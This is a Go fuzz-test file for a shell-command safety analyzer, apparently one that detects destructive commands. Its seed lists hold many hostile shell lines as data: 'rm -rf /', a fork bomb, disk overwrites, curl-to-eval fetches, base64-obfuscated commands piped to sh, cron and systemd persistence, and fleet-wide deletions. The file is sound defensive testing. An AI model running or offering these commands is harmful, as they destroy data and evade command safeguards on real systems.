package shell

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"mvdan.cc/sh/v3/syntax"
)

// FuzzAnalyze feeds arbitrary lines, in every dialect, to the analyzer: it
// must never panic, never hang, and always return an Analysis.
func FuzzAnalyze(f *testing.F) {
	seeds := []string{
		"rm -rf /", `r\m -rf "$X/"*`, "sudo mv /usr/sbin{,.bak}", "cd /usr && mv sbin x",
		"echo 'rm -rf /' | sh", "ls | xargs -I{} rm {}", "find / -exec rm {} +", ":(){ :|:& };:",
		"cat <<EOF | bash\nrm -rf /\nEOF", "ssh h 'bash -c \"rm -rf /\"'", "for x in a b; do rm $x; done",
		"$(", "{1..100000}", "a=(1 2); rm ${a[@]}", "eval \"$(curl x)\"", "rm -rf / &&",
		"sudo -u x -- env -i nice timeout 1 rm -rf /", "echo $((1/0))", "${x:?}", "~root/x",
		"begin; rm -rf (echo /); end", "dd of=/dev/sda", "rsync --delete a/ b/", "[[ -f x ]] && rm x",
		"docker run -v /:/h -w /h --mount type=bind,src=/,dst=/m,ro --device /dev/sda:/d:r --privileged x rm -rf /h/*",
		"docker run -v a:/b -v :/c -v /d --entrypoint sh x -c 'docker run -v /:/x y rm -rf /x'", "rm -rf $(pwd)/`pwd -P`",
		"gcloud compute ssh h --command 'rm -rf /'", "aws-vault exec p -- sudo rm -rf /", "hcloud server ssh h -- rm -rf /",
		"az vm run-command invoke -n h --scripts 'rm -rf /'", "aws ec2 terminate-instances help",
		// The fleet and cluster runners of the ecosystem pass.
		"fab -H a,b -- rm -rf /", "knife ssh 'name:*' 'rm -rf /' -x u", "mco shell run 'rm -rf /'", "rd adhoc -p p -F x -- rm -rf /",
		"salt-ssh -i '*' cmd.run 'rm -rf /'", "oc rsh -n x p rm -rf /", "nomad alloc exec -task t a rm -rf /",
		"aws ssm send-command --parameters commands='rm -rf /' --targets x", "bq query --dry_run 'DROP TABLE a.b'", "k3s server --cluster-reset",
		// Computed output, code belay cannot see, and the wrappers of #15.
		"echo cm0gLXJmIC8K | base64 -d | sh", "echo 726d | xxd -r -p | rev | tr a-z A-Z | sh",
		"printf '%b' '\\x72m' | gunzip | sh", "bash <(curl -s https://x)", ". /dev/stdin <<< 'rm -rf /'",
		"sudo -i <<< reboot", "parallel rm -rf {2.} ::: a ::: /b :::: f", "tmux new -d 'x' \\; send-keys -H 72 C-m",
		"screen -S w -X stuff 'rm -rf /\\n'", "expect -c 'spawn sh; send \"reboot\\r\"'", "echo a | xargs -0 -J% rm %",
		// Computed names, zsh forms, false stops (issue #15).
		"$(echo cm0= | base64 -d | rev | tr a-z A-Z | xxd -r -p) -rf /", "arr=(rm -rf /); \"${arr[@]}\"; ${arr[1]}",
		"sh -c '$0 \"$@\" $1 $#' rm -rf /", "set -- a b; \"$@\"", "IFS=x; X=rmx-rfx/; $X", "$CMD -rf / if=x of=/dev/sda",
		"=rm -rf /(N/)", "x='a:b'; ${(s.:.)x} ${=x} $=x ${(z)x} ${x:h:t}", "noglob repeat 3 - nocorrect rm *(om[1,5])",
		"rm -rf \"${D:?}\"/.. /tmp/$$ $(mktemp -d -p /x y.XXX)", "print -rl -- $(print -n a) | tr -d a",
		"for x (a b) { foreach y (c) () { if [[ $x ]] { rm $1 } else { echo } } $y; end } always { while x { y } }",
		// The second disguise pass: unknown names that run their
		// arguments, bindings that stay, zsh scalars and null commands.
		"$A -u root -- $B -x $C -- sh -ec 'rm -rf /' $D -c", "declare -n a=b; declare -n b=a; $a; n=(x); ${c[@]}",
		"eval 'x=(a)'; . /dev/stdin <<< y=z; source <(echo w=v); : ${q:=r}; {,a}{'',b}", "$(type -P a) $(command -v b) `which c`",
		"${:-a} ${${:-xa}#x} ${v[2,-1]} ${v[-9,99]} ${(e)${:-'$(x)'}} c=$(<<< a); <<< b | sh; sched +1 c",
		// Code defined now and run later (issue #15, item 6).
		"alias -g X='| rm' ls=\"rm -rf $D\" -- y; trap \"trap 'PS1=\\$(reboot)' INT\" EXIT 0 -",
		"PROMPT_COMMAND+=(a 'b;c'); PS4='`x`$(y)${z:-$(w)}'; bind -mx -x'\"\\C-m\": \"r\"' -x ':'",
		"complete -o x -W '$(a)' -C b -- c; compgen -C; abbr -a --position anywhere -- x y; crontab -u",
		"crontab - <<< $'* * * * * sh %a%b\\%c\n@reboot x\nX=1\n* * *'; echo '@reboot root x' > /etc/cron.d/a",
		"printf '[Service]\\nExecStart=-@:+!/x\\nExecStop=\\n' | tee -a ~/.bashrc /etc/systemd/a.service.d/b.conf",
		"sed -i -e '$a\\' -e 'x\\' -e '1i y' ~/.profile; env PROMPT_COMMAND=z PS1='$(q)' bash",
		// Listers and queries feeding a pipe (piped.go), ansible modules (ansible.go).
		"sudo -u x find / a -name b ! -o | grep -rlZe x -- | sort -k | head -n | xargs -0 -I% rm -rf %/%",
		"ls -t /x/*.gz d | tail -n +8 | locate | grep -l y *.log | xargs -J% mv % /z",
		"psql -Atc 'select 1' | grep -v x | sudo -u postgres psql -f - db; mysql -e x | mysql",
		"ansible all -m ansible.builtin.file -a 'path=/x state=absent mode=0 recurse=yes owner=a' --args=\"a=b\" -mapt",
		// Loops over a lister's output, substitutions reading stdin (listed.go).
		`find /a /b | grep x | while IFS= read -r -d '' f; do rm "$f" /x/"$f" ${f%/*}; done < <(ls /c | sort)`,
		`mapfile -t a < <(find /x); readarray -d '' b <<< "$(find /y)"; for f in $(find /z) ` + "`ls /w`" + `; do rm "${a[@]}" $f; done`,
		`find / | parallel --pipe -S h 'rm {} "{}" '\''{}'\'; find / | xargs -I% bash -ec 'rm %; x=belay_listed' _ %`,
		`echo r | bash -c "$(< /dev/stdin)$(cat -)" <<< x; ansible all -m file -a '{"path": ["/", {"a": 1}], "state": "absent"}'`,
	}
	for _, s := range seeds {
		f.Add(s, uint8(0))
	}
	dialects := []Dialect{Bash, POSIX, Zsh, Fish}
	f.Fuzz(func(t *testing.T, line string, d uint8) {
		opt := testOpts
		opt.Dialect = dialects[int(d)%len(dialects)]
		done := make(chan *Analysis, 1)
		go func() { done <- Analyze(line, opt) }()
		select {
		case a := <-done:
			if a == nil {
				t.Fatal("nil analysis")
			}
			for _, p := range a.Problems {
				if strings.Contains(p, "internal error") {
					t.Fatalf("internal error for %q: %s", line, p)
				}
				if !utf8.ValidString(p) {
					t.Fatalf("problem %q is not UTF-8", p)
				}
			}
			for _, inv := range a.Invocations {
				if !utf8.ValidString(inv.Text) {
					t.Fatalf("text %q of %q is not UTF-8", inv.Text, line)
				}
			}
		case <-time.After(5 * time.Second):
			t.Fatalf("analysis of %q took over 5s", line)
		}
	})
}

// FuzzAnalyzeArgv checks the argv path the same way.
func FuzzAnalyzeArgv(f *testing.F) {
	f.Add("rm\x00-rf\x00/")
	f.Add("bash\x00-c\x00rm -rf /")
	f.Add("sudo\x00-u\x00x\x00find\x00/\x00-delete")
	f.Add("docker\x00run\x00-v\x00/:/host\x00alpine\x00rm\x00-rf\x00/host")
	f.Add("ip\x00-4\x00l\x00s\x00eth0\x00down")
	f.Add("docker\x00volume\x00rm\x00--help")
	f.Fuzz(func(t *testing.T, joined string) {
		a := AnalyzeArgv(strings.Split(joined, "\x00"), testOpts)
		if a == nil {
			t.Fatal("nil analysis")
		}
		for _, p := range a.Problems {
			if strings.Contains(p, "internal error") {
				t.Fatalf("internal error for %q: %s", joined, p)
			}
		}
	})
}

// FuzzParseSudo checks that sudo's arguments are always read, whatever
// they are: no panic, and the command is what follows the options.
func FuzzParseSudo(f *testing.F) {
	for _, s := range []string{"-h\x00rm\x00-rf\x00/", "--us=web\x00rm", "-Eu\x00root\x00X=1\x00rm", "-e", "--\x00-x",
		"-hhost\x00-l", "--pre", "-i\x00-s", "-u", "-D\x00/usr\x00mv\x00a\x00b", "--host\x00h\x00rm"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, joined string) {
		args := strings.Split(joined, "\x00")
		sa := ParseSudo(args)
		if sa.At < 0 || sa.At > len(args) {
			t.Fatalf("At %d out of %d arguments", sa.At, len(args))
		}
		if len(sa.Command) != len(args)-sa.At {
			t.Fatalf("command %q is not args[%d:] of %q", sa.Command, sa.At, args)
		}
	})
}

// FuzzGrammar reads any arguments by any grammar: it must end, never
// panic, and account for every word as an option, a value or an operand.
func FuzzGrammar(f *testing.F) {
	f.Add("ab:c::", "alpha beta: gamma::", uint8(1), "-ab\x00x\x00--be\x00--gamma=1\x00--\x00-c")
	f.Add("+o:", "rcfile:", uint8(6), "+o\x00posix\x00-10\x00-netns\x00x")
	f.Fuzz(func(t *testing.T, short, long string, flags uint8, joined string) {
		c := &command{short: short, long: long, abbrev: flags&1 != 0, dashLong: flags&2 != 0, plus: flags&4 != 0, numeric: flags&8 != 0, inherit: flags&16 != 0}
		words := strings.Split(joined, "\x00")
		args := toArgs(words)
		p := parseArgs(c, args)
		if len(p.operands) > len(args) || len(p.opts) > len(joined)+1 {
			t.Fatalf("%d operands, %d options from %d words", len(p.operands), len(p.opts), len(args))
		}
		for i, k := range p.opIdx {
			if k < 1 || k > len(args) || args[k-1].Value != p.operands[i] {
				t.Fatalf("operand %d (%q) is not argv[%d]", i, p.operands[i], k)
			}
		}
		readWrapper(&command{short: short, long: long, run: &wrap{permute: flags&32 != 0}}, args)
	})
}

// runsRoot reports whether the parsed line holds the simple command
// rm -rf / anywhere a shell would run it (heredoc delimiters are not run).
func runsRoot(f *syntax.File) bool {
	found := false
	syntax.Walk(f, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.Redirect:
			if n.Op == syntax.Hdoc || n.Op == syntax.DashHdoc {
				if n.Hdoc != nil {
					syntax.Walk(n.Hdoc, func(m syntax.Node) bool {
						found = found || isRootRm(m)
						return !found
					})
				}
				return false
			}
		default:
			found = found || isRootRm(n)
		}
		return !found
	})
	return found
}

func isRootRm(n syntax.Node) bool {
	c, ok := n.(*syntax.CallExpr)
	return ok && len(c.Args) == 3 && c.Args[0].Lit() == "rm" && c.Args[1].Lit() == "-rf" && c.Args[2].Lit() == "/"
}

// FuzzAnalyzeBudget builds lines from fuzzed pieces, repeated and nested
// up to what a hook passes (32 KiB), with rm -rf / after them or inside
// them. The analysis must return within its work budget, and wherever the
// parsed line holds that rm, the analysis must find it (its delete of /)
// or record a Problem: never neither.
func FuzzAnalyzeBudget(f *testing.F) {
	for _, s := range []struct {
		open, close string
		n           uint16
		shape       uint8
	}{
		{"env ", "", 8000, 1}, {"xargs ", "", 20000, 1}, {"find / -exec ", " ;", 2000, 1},
		{"for v in 1 2 3 4 5 6 7 8; do X=$v; ", "done; ", 12, 2}, {"X=$X$X; ", "", 60, 0},
		{"$(", ")", 5000, 2}, {"if true; then ", "fi; ", 3000, 2}, {"case x in x) ", ";; esac; ", 2000, 2},
		{"echo $((1", "+1", 10000, 3}, {"echo {a,b}", "", 100, 0}, {"( ", " )", 16000, 2},
		{"cat <<E\nx\nE\n", "", 2000, 0}, {"a | ", "", 8000, 1}, {"true && ", "", 4000, 1},
		{"sudo -u x nice timeout 5 env -i ", "", 1000, 1}, {"\xff", "", 30000, 0}, {"f(){ ", "}; ", 3000, 2},
		{"bash -c '", "'", 1, 2}, {"eval ", "", 100, 1}, {"X=aaaa$X; ", "echo $X $X $X; ", 200, 3},
		{"echo cm0K | base64 -d | ", "", 2000, 1}, {"$(echo ", ")", 3000, 2}, {"tmux new ", "", 2000, 1},
		{"parallel ", "", 2000, 1}, {"sh <(", ")", 2000, 2}, {"echo x | rev | ", "", 3000, 1},
		{"$(echo ", " | rev)", 3000, 2}, {"a=(x x x x x x x x); a=(${a[@]} ${a[@]}); ", "", 40, 0},
		{"$X -rf /x; ", "", 4000, 0}, {"sh -c '\"$@\"' _ ", "", 2000, 1}, {"set -- $@ $@; ", "", 40, 0},
	} {
		f.Add(s.open, s.close, s.n, s.shape)
	}
	f.Fuzz(func(t *testing.T, open, close string, n uint16, shape uint8) {
		const size = 32 << 10
		unit := len(open) + len(close)
		if unit == 0 {
			return
		}
		k := min(int(n), (size-len(rm))/unit)
		var line string
		switch shape % 4 {
		case 0: // a sequence, then rm on a line of its own
			line = strings.Repeat(open+close, k) + "\n" + rm
		case 1: // a prefix: wrappers before rm
			line = strings.Repeat(open, k) + rm + strings.Repeat(close, k)
		case 2: // rm nested inside
			line = strings.Repeat(open, k) + rm + "\n" + strings.Repeat(close, k)
		default: // a body repeated inside one construct, then rm
			line = open + strings.Repeat(close, k) + "\n" + rm
		}
		a := Analyze(line, testOpts)
		for _, p := range a.Problems {
			if strings.Contains(p, "internal error") {
				t.Fatalf("internal error: %s", p)
			}
		}
		if a.work > maxWork+maxCharge {
			t.Fatalf("work %d, budget %d", a.work, maxWork)
		}
		if f, err := parse(line, Bash); err == nil && runsRoot(f) && !deletesRoot(a) && len(a.Problems) == 0 {
			t.Fatalf("rm -rf / not found and no problem in %.300q", line)
		}
	})
}

const rm = "rm -rf /"
